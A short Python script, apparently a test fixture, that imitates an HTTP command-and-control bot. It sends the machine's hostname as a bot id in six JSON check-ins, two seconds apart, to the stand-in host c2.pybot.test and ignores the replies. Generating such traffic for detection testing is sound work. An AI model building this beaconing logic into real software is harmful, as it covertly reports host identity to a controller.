#!/usr/bin/env python3
"""Imitates an HTTP C2 bot: resolves its controller's name and POSTs a check-in to the same path every
2 seconds with a custom User-Agent, reading back "tasks" (the fake web's page, ignored)."""
import json
import socket
import time
import urllib.request

bot_id = socket.gethostname() + '-corpus'
for beat in range(6):
    body = json.dumps({'id': bot_id, 'beat': beat, 'status': 'idle'}).encode()
    request = urllib.request.Request('http://c2.pybot.test/api/v2/checkin', data=body,
                                     headers={'User-Agent': 'CorpusBot/1.3', 'Content-Type': 'application/json'})
    try:
        urllib.request.urlopen(request, timeout=5).read()
    except OSError:
        pass
    time.sleep(2)
